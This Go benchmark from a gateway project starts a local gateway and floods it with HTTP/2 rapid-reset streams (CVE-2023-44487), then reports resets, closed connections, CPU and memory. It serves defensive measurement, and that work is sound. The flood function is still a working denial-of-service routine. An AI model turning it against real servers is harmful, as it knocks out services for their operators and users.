// Command h2reset measures what an HTTP/2 rapid-reset flood (CVE-2023-44487)
// costs flexgw's built-in data plane: one client opens streams and resets
// them at once, as fast as it can, for -d, reconnecting whenever the
// gateway closes the connection. It prints the streams reset, the
// connections the gateway closed, the requests that reached the upstream,
// and the gateway's CPU time and memory.
//
// The gateway is bench/proxy's data plane (`proxy -serve DIR`, built from
// this tree unless -gateway names another build, e.g. one from before a
// change), on h2c prior knowledge, in front of an upstream that counts.
//
//	go run ./bench/h2reset
//	go run ./bench/h2reset -gateway /tmp/old-proxy -d 10s
package main

import (
	"bytes"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func main() {
	gateway := flag.String("gateway", "", "a bench/proxy binary to run as the gateway (default: built from this tree)")
	d := flag.Duration("d", 10*time.Second, "attack duration")
	flag.Parse()
	if err := run(*gateway, *d); err != nil {
		fmt.Fprintln(os.Stderr, "h2reset:", err)
		os.Exit(1)
	}
}

func run(gateway string, d time.Duration) error {
	dir, err := os.MkdirTemp("", "flexgw-h2reset-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(dir)
	if gateway == "" {
		gateway = filepath.Join(dir, "proxy")
		if out, err := exec.Command("go", "build", "-o", gateway, "./bench/proxy").CombinedOutput(); err != nil {
			return fmt.Errorf("build bench/proxy: %w\n%s", err, out)
		}
	}
	var upstreamRequests atomic.Int64
	ul, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	defer ul.Close()
	go http.Serve(ul, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		upstreamRequests.Add(1)
		io.WriteString(w, "ok")
	}))
	port := freePort()
	cfg := fmt.Sprintf(`apiVersion: gateway.mulesoft.com/v1alpha1
kind: ApiInstance
metadata:
  name: bench
spec:
  address: http://127.0.0.1:%d
  services:
    upstream:
      address: http://%s
`, port, ul.Addr())
	if err := os.WriteFile(filepath.Join(dir, "api.yaml"), []byte(cfg), 0o644); err != nil {
		return err
	}
	cmd := exec.Command(gateway, "-serve", dir)
	cmd.Stderr = io.Discard // the gateway logs every closed connection
	if err := cmd.Start(); err != nil {
		return err
	}
	defer func() { _ = cmd.Process.Signal(syscall.SIGTERM); _ = cmd.Wait() }()
	addr := fmt.Sprintf("127.0.0.1:%d", port)
	if err := waitUp(addr); err != nil {
		return err
	}
	pid := cmd.Process.Pid
	rss0, _ := procStatus(pid)
	cpu0 := cpuTime(pid)
	var resets, conns, closed int64
	end := time.Now().Add(d)
	for time.Now().Before(end) {
		n, wasClosed, err := flood(addr, end)
		conns++
		resets += n
		if wasClosed {
			closed++
		}
		if err != nil && n == 0 {
			return err
		}
	}
	time.Sleep(500 * time.Millisecond) // let dispatched requests land
	cpu := cpuTime(pid) - cpu0
	rss, hwm := procStatus(pid)
	fmt.Printf("h2 rapid reset, %s, h2c: %d streams reset over %d connections (%d closed by the gateway)\n", d, resets, conns, closed)
	fmt.Printf("  upstream requests dispatched: %d\n", upstreamRequests.Load())
	fmt.Printf("  gateway CPU: %s (%.1f µs per reset stream)\n", cpu, float64(cpu.Microseconds())/float64(max(resets, 1)))
	fmt.Printf("  gateway RSS: %.1f MiB before, %.1f MiB after, peak %.1f MiB\n", float64(rss0)/1024, float64(rss)/1024, float64(hwm)/1024)
	return nil
}

// flood opens one connection and resets streams on it until end or until
// the gateway closes it.
func flood(addr string, end time.Time) (n int64, closedByPeer bool, err error) {
	c, err := net.Dial("tcp", addr)
	if err != nil {
		return 0, false, err
	}
	defer c.Close()
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return 0, true, nil
	}
	fr := http2.NewFramer(c, c)
	if err := fr.WriteSettings(); err != nil {
		return 0, true, nil
	}
	peerClosed := make(chan struct{})
	go func() {
		defer close(peerClosed)
		rf := http2.NewFramer(io.Discard, c)
		for {
			if _, err := rf.ReadFrame(); err != nil {
				return
			}
		}
	}()
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "gw"}, {":path", "/"}} {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	block := buf.Bytes()
	_ = c.SetWriteDeadline(end)
	for id := uint32(1); time.Now().Before(end) && id < 1<<31-2; id += 2 {
		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}) != nil ||
			fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			break
		}
		n++
	}
	c.Close()
	select {
	case <-peerClosed:
	case <-time.After(time.Second):
	}
	return n, time.Now().Before(end), nil
}

func waitUp(addr string) error {
	for i := 0; i < 300; i++ {
		if c, err := net.Dial("tcp", addr); err == nil {
			c.Close()
			return nil
		}
		time.Sleep(50 * time.Millisecond)
	}
	return fmt.Errorf("gateway not listening on %s", addr)
}

func freePort() int {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		panic(err)
	}
	defer l.Close()
	return l.Addr().(*net.TCPAddr).Port
}

// procStatus returns VmRSS and VmHWM of pid, KiB.
func procStatus(pid int) (rss, hwm int64) {
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	for _, l := range strings.Split(string(b), "\n") {
		f := strings.Fields(l)
		if len(f) >= 2 {
			switch f[0] {
			case "VmRSS:":
				rss, _ = strconv.ParseInt(f[1], 10, 64)
			case "VmHWM:":
				hwm, _ = strconv.ParseInt(f[1], 10, 64)
			}
		}
	}
	return rss, hwm
}

// cpuTime is the user+system CPU time of pid.
func cpuTime(pid int) time.Duration {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return 0
	}
	s := string(b)
	f := strings.Fields(s[strings.LastIndexByte(s, ')')+1:])
	if len(f) < 13 {
		return 0
	}
	u, _ := strconv.ParseInt(f[11], 10, 64)
	st, _ := strconv.ParseInt(f[12], 10, 64)
	return time.Duration(u+st) * time.Second / 100
}
